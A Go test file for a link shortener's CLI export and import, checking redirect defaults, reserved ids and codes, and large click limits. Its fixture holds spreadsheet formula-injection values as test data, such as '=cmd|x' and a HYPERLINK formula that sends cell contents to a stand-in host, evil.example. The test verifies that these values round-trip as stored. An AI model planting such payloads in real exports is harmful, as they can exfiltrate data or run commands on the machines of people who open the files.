package cli

import (
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/linkbolt/linkbolt/server"
	"github.com/linkbolt/linkbolt/store"
)

// guaranteesFixture builds a server whose export must carry what the
// database file guarantees. It has a link that follows the default
// redirect status and cells that a spreadsheet reads as formulas. A purged
// link, a deleted user and a purged event each have the highest id of
// their kind.
func guaranteesFixture(t *testing.T) *apiServer {
	t.Helper()
	a := startAPIServer(t, server.Options{})
	var user apiUser
	a.mustRequest(t, http.MethodPost, "/users", map[string]any{"username": "=cmd|x", "email": "keep@example.com"}, http.StatusCreated, &user)
	a.mustRequest(t, http.MethodPost, "/users", map[string]any{"username": "gone", "email": "gone@example.com"}, http.StatusCreated, nil)
	a.mustRequest(t, http.MethodDelete, "/users/2", nil, http.StatusNoContent, nil)

	a.createLink(t, map[string]any{"original_url": "https://example.com/default", "short_code": "follows", "title": `=HYPERLINK("https://evil.example/?"&A1,"Click")`})
	a.createLink(t, map[string]any{"original_url": "https://example.com/fixed", "short_code": "fixed", "redirect_type": 301, "title": "+1"})
	a.createLink(t, map[string]any{"original_url": "https://example.com/at", "short_code": "at", "title": "@SUM(1)", "user_id": user.ID})
	a.createLink(t, map[string]any{"original_url": "https://example.com/minus", "short_code": "minus", "title": "-2+3"})
	a.mustRequest(t, http.MethodPost, "/events", map[string]any{"event_type": "=cmd", "url_id": 1, "details": map[string]any{"note": "=1+1"}}, http.StatusCreated, nil)
	a.createLink(t, map[string]any{"original_url": "https://example.com/inact", "short_code": "inact", "is_active": false})
	expectExit(t, a.cli(t, "purge", "--inactive"), exitOK)

	// The purge removed link 5 and its created event 6, the highest ids.
	a.mustRequest(t, http.MethodPost, "/urls", map[string]any{"original_url": "https://example.com/x", "short_code": "inact"}, http.StatusConflict, nil)
	return a
}

// importExport loads the export in dir into b through the bulk routes,
// with reservations.csv when withReservations is set.
func importExport(t *testing.T, b *apiServer, dir string, withReservations bool) {
	t.Helper()
	args := importArgs(dir, "csv")
	if withReservations {
		args = append(args, "--reservations", filepath.Join(dir, "reservations.csv"))
	}
	expectExit(t, b.cli(t, args...), exitOK)
}

func TestExportImportKeepsGuarantees(t *testing.T) {
	clearEnv(t)
	a := guaranteesFixture(t)
	dir := t.TempDir()
	expectExit(t, a.cli(t, "export", "--dir", dir), exitOK)

	// b has another default status, which link 1 must follow.
	b := startAPIServer(t, server.Options{RedirectStatus: http.StatusTemporaryRedirect})
	importExport(t, b, dir, true)

	t.Run("default redirect status", func(t *testing.T) {
		follows := b.getLink(t, 1)
		if follows.RedirectType != http.StatusTemporaryRedirect || follows.RedirectTypeDefault == nil || !*follows.RedirectTypeDefault {
			t.Errorf("link 1 on b: redirect_type %d, default %v; want 307 from the server default", follows.RedirectType, follows.RedirectTypeDefault)
		}
		b.click(t, "follows", "", "Mozilla/5.0", http.StatusTemporaryRedirect)
		fixed := b.getLink(t, 2)
		if fixed.RedirectType != http.StatusMovedPermanently || fixed.RedirectTypeDefault == nil || *fixed.RedirectTypeDefault {
			t.Errorf("link 2 on b: redirect_type %d, default %v; want its own 301", fixed.RedirectType, fixed.RedirectTypeDefault)
		}
	})

	t.Run("purged code reserved", func(t *testing.T) {
		res := b.request(t, http.MethodPost, "/urls", map[string]any{"original_url": "https://example.com/x", "short_code": "inact"}, nil)
		if res.status != http.StatusConflict {
			t.Errorf("POST /urls with the purged code: status %d, want 409; body %s", res.status, res.body)
		}
	})

	t.Run("id sequences kept", func(t *testing.T) {
		link := b.createLink(t, map[string]any{"original_url": "https://example.com/new"})
		if link.ID != 6 {
			t.Errorf("new link id %d, want 6, above the purged link 5", link.ID)
		}
		var user apiUser
		b.mustRequest(t, http.MethodPost, "/users", map[string]any{"username": "new", "email": "new@example.com"}, http.StatusCreated, &user)
		if user.ID != 3 {
			t.Errorf("new user id %d, want 3, above the deleted user 2", user.ID)
		}

		// The click of the first subtest and the create above wrote
		// events 7 and 8, above the purged event 6.
		events, _ := b.fetchAll(t, "/events")
		var got []string
		for _, ev := range events {
			id, _, _ := strings.Cut(strings.TrimPrefix(string(ev), `{"id":`), ",")
			got = append(got, id)
		}
		if want := "1 2 3 4 5 7 8"; strings.Join(got, " ") != want {
			t.Errorf("event ids on b = %s, want %s", strings.Join(got, " "), want)
		}
	})

	t.Run("formula cells unchanged", func(t *testing.T) {
		for _, path := range []string{"/users", "/events"} {
			fromA, _ := a.fetchAll(t, path)
			fromB, _ := b.fetchAll(t, path)
			for i := range min(len(fromA), len(fromB)) {
				if string(fromA[i]) != string(fromB[i]) {
					t.Errorf("%s record %d:\na: %s\nb: %s", path, i, fromA[i], fromB[i])
				}
			}
		}
		for id, want := range map[uint64]string{1: `=HYPERLINK("https://evil.example/?"&A1,"Click")`, 2: "+1", 3: "@SUM(1)", 4: "-2+3"} {
			if got := b.getLink(t, id); got.Title == nil || *got.Title != want {
				t.Errorf("title of link %d on b = %v, want %q", id, got.Title, want)
			}
		}

		// The cells are written as stored, without a guard character.
		raw, err := os.ReadFile(filepath.Join(dir, "users.csv"))
		if err != nil {
			t.Fatal(err)
		}
		if !strings.Contains(string(raw), "\n1,=cmd|x,") {
			t.Errorf("users.csv does not hold the username as stored:\n%s", raw)
		}
	})
}

func TestImportExportWithoutReservations(t *testing.T) {
	clearEnv(t)
	a := guaranteesFixture(t)
	dir := t.TempDir()
	expectExit(t, a.cli(t, "export", "--dir", dir), exitOK)

	// An export from before reservations.csv existed still loads, without
	// the reservations, into a file through --db as into a server.
	if err := os.Remove(filepath.Join(dir, "reservations.csv")); err != nil {
		t.Fatal(err)
	}
	db := filepath.Join(t.TempDir(), "old.db")
	expectExit(t, runCommand(t, append(importArgs(dir, "csv"), "--db", db)...), exitOK)

	withReservations := filepath.Join(t.TempDir(), "new.db")
	expectExit(t, a.cli(t, "export", "--dir", dir, "--force"), exitOK)
	args := append(importArgs(dir, "csv"), "--db", withReservations, "--reservations", filepath.Join(dir, "reservations.csv"))
	res := runCommand(t, args...)
	expectExit(t, res, exitOK)
	if !strings.Contains(res.out, "imported 4 reservations from ") {
		t.Errorf("output = %q, want 4 reservations imported", res.out)
	}

	// Three highest ids and the purged code; the deleted user left no
	// code, and no link was deleted.
	c := startAPIServerOn(t, withReservations, nil, server.Options{}, nil)
	list, total := c.fetchAll(t, "/admin/reservations")
	if total != 4 || len(list) != 4 {
		t.Fatalf("reservations = %s (total %d), want 4", list, total)
	}
	want := []string{
		`{"kind":"user","id":2,"short_code":null}`,
		`{"kind":"url","id":5,"short_code":null}`,
		`{"kind":"event","id":6,"short_code":null}`,
		`{"kind":"url","id":5,"short_code":"inact"}`,
	}
	for i, w := range want {
		if string(list[i]) != w {
			t.Errorf("reservation %d = %s, want %s", i, list[i], w)
		}
	}
}

func TestExportImportLargestMaxClicks(t *testing.T) {
	clearEnv(t)
	const largest = "9223372036854775807" // store.MaxClickLimit
	a := startAPIServer(t, server.Options{})
	a.createLink(t, map[string]any{"original_url": "https://example.com/big", "short_code": "big", "max_clicks": store.MaxClickLimit})
	a.createLink(t, map[string]any{"original_url": "https://example.com/over", "short_code": "over", "max_clicks": 1 << 53})
	dir := t.TempDir()
	expectExit(t, a.cli(t, "export", "--dir", dir), exitOK)

	// wantLimits checks the limits of both links on a server.
	wantLimits := func(t *testing.T, s *apiServer) {
		t.Helper()
		for id, want := range map[uint64]uint64{1: store.MaxClickLimit, 2: 1 << 53} {
			if got := s.getLink(t, id).MaxClicks; got == nil || *got != want {
				t.Errorf("max_clicks of link %d = %v, want %d", id, got, want)
			}
		}
	}
	t.Run("through the server", func(t *testing.T) {
		b := startAPIServer(t, server.Options{})
		importExport(t, b, dir, true)
		wantLimits(t, b)
	})
	t.Run("into a file", func(t *testing.T) {
		db := filepath.Join(t.TempDir(), "new.db")
		expectExit(t, runCommand(t, append(importArgs(dir, "csv"), "--db", db)...), exitOK)
		wantLimits(t, startAPIServerOn(t, db, nil, server.Options{}, nil))
	})

	// One above the range is rejected on both paths, naming the line,
	// the value and the limit.
	urls, err := os.ReadFile(filepath.Join(dir, "urls.csv"))
	if err != nil {
		t.Fatal(err)
	}
	above := strings.Replace(string(urls), ","+largest+",", ",9223372036854775808,", 1)
	if above == string(urls) {
		t.Fatalf("urls.csv has no max_clicks cell %s:\n%s", largest, urls)
	}
	path := writeFile(t, t.TempDir(), "urls.csv", above)
	const reason = `line 2: max_clicks "9223372036854775808" is larger than ` + largest
	t.Run("above range through the server", func(t *testing.T) {
		b := startAPIServer(t, server.Options{})
		expectExit(t, b.cli(t, "import", "--urls", path), exitRejected, reason)
	})
	t.Run("above range into a file", func(t *testing.T) {
		db := filepath.Join(t.TempDir(), "new.db")
		expectExit(t, runCommand(t, "import", "--urls", path, "--db", db), exitFailure, reason)
	})
}
